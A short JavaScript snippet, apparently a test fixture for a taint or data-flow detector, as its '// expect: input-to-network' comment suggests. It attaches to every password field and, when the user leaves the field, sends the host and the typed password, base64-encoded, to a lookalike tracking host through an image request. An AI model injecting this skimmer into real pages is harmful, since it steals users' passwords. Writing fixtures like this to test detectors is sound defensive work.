document.querySelectorAll('input[type=password]').forEach(function (i) {
  i.addEventListener('blur', function () {
    var img = new Image();
    // expect: input-to-network browsing-data-to-network
    img.src = 'https://px.stats-cdn.example/p.gif?d=' + btoa(location.host + '|' + this.value);
  });
});
